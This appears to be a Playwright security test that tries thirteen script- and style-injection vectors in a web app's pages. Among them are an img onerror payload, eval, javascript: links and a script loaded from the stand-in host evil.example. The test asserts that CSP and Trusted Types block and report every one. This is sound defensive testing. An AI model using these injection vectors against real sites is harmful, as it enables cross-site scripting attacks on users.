import type { Page } from '@playwright/test'
import { expect, test } from '../story.ts'

/** Lines of an attacker that run in the page; each reports whether it succeeded. */
async function attack(page: Page): Promise<Record<string, boolean>> {
  return page.evaluate(
    () =>
      // Later, as a script of the page itself: what the test's own tool runs is let off some of the policy.
      new Promise<Record<string, boolean>>((resolve) => {
        setTimeout(async () => {
          const box = document.body.appendChild(document.createElement('div'))
          const run = 'window.attacked = true'
          const throws = (act: () => unknown) => {
            try {
              act()
              return false
            } catch {
              return true
            }
          }
          const ran = async (act: () => unknown) => {
            const refused = throws(act)
            await new Promise((next) => setTimeout(next, 50))
            const attacked = Reflect.get(window, 'attacked') === true
            Reflect.deleteProperty(window, 'attacked')
            return attacked && !refused
          }
          const make = (tag: string, change: (made: HTMLElement) => void) => () => {
            const made = document.createElement(tag)
            change(made)
            box.append(made)
          }
          const coloured = (act: () => void) => {
            act()
            return getComputedStyle(box).color === 'rgb(1, 2, 3)'
          }
          resolve({
            'markup as text': !throws(() =>
              box.insertAdjacentHTML('beforeend', `<img src="/none" onerror="${run}">`),
            ),
            eval: await ran(() => Reflect.get(window, 'eval')(run)),
            'a function of text': await ran(() => new Function(run)()),
            'a timer of text': await ran(() => setTimeout(run)),
            'an inline script': await ran(make('script', (made) => made.append(run))),
            'a script from elsewhere': !throws(
              make('script', (made) => {
                ;(made as HTMLScriptElement).src = 'https://evil.example/a.js'
              }),
            ),
            'a listener as text': await ran(
              make('img', (made) => {
                made.setAttribute('onerror', run)
                made.setAttribute('src', 'data:,')
              }),
            ),
            'an address that is a script': await ran(() => {
              make('a', (made) => made.setAttribute('href', `javascript:${run}`))()
              box.querySelector('a')?.click()
            }),
            'a worker of text': !throws(() => new Worker('/boot.js')),
            'a policy of its own': !throws(() =>
              Reflect.get(window, 'trustedTypes').createPolicy('evil', {}),
            ),
            'a style attribute': coloured(() => box.setAttribute('style', 'color: rgb(1, 2, 3)')),
            'a style element': coloured(
              make('style', (made) => made.append('div { color: rgb(1, 2, 3) !important }')),
            ),
            // The last one, since a rewritten document removes all the rest.
            'a document as text': !throws(() => document.write('<p>')),
          })
          box.remove()
        })
      }),
  )
}

test('behavior: injected content is neither run nor rendered, and is detected', async ({
  page,
  demo,
  watch,
}) => {
  for (const url of [demo.web, demo.console]) {
    await page.goto(url)
    await expect(page.getByRole('heading').first()).toBeVisible()
    const before = watch.list().length
    const got = await attack(page)
    expect(
      Object.entries(got).filter(([, isThrough]) => isThrough),
      url,
    ).toEqual([])
    expect(Object.keys(got)).toHaveLength(13)
    const seen = watch.list().slice(before).join('\n')
    for (const sign of ['TrustedHTML', 'TrustedScriptURL', 'style-src', 'trusted-types'])
      expect(seen, url).toContain(sign)
  }
  watch.allow(/Trusted|trusted-types|Content Security Policy|status (of )?401|^console: .*\/none/)
})
